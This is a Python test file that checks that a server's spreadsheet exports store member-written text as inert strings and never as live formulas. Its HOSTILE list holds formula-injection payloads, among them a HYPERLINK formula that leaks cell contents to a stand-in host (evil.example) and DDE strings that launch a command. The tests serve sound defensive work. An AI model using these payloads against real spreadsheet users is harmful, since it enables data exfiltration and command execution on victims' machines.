"""Member-written text never becomes a live formula in a workbook we produce (issue 14 item 6):
the talk ledger through the API, and the one helper every export uses."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from server import spreadsheets
from tests.talkkit import answer, local, problem, record, request_talk

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet in the file."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def _cells(xlsx: bytes) -> dict[str, object]:
    wb = load_workbook(io.BytesIO(xlsx))
    return {str(c.value): c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_keeps_risky_text_as_text(text: str) -> None:
    xlsx = spreadsheets.workbook(spreadsheets.Sheet("t", ["a", "b", "c"], [[text, 5, -3]]))
    assert _formulas(xlsx) == []
    cells = _cells(xlsx)
    assert cells[text].data_type == "s" and cells[text].quotePrefix  # type: ignore[attr-defined]
    assert cells["5"].data_type == "n" and cells["-3"].data_type == "n"  # numbers stay numbers


def test_the_talk_ledger_keeps_member_text_inert(fake_clock, as_user) -> None:
    fake_clock.now = local(2026, 9, 30, 10)
    requested = request_talk(as_user("m1"), topic=HOSTILE[0])
    answer(as_user("contact1"), requested["id"], talker="sec1", place=HOSTILE[3])
    fake_clock.now = local(2026, 10, 12, 17)
    record(as_user("sec1"), requested["id"], "2026-10-12", content=HOSTILE[1],
           problems=[problem(HOSTILE[2], "sec1", "2026-11-30", measure=HOSTILE[4])])
    res = as_user("sec1").get("/api/talks/ledger.xlsx?org_unit=demo-branch1")
    assert res.status_code == 200
    assert _formulas(res.data) == []
    cells = _cells(res.data)
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4]):
        assert text in cells, text  # the text is kept exactly as written
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text  # type: ignore[attr-defined]
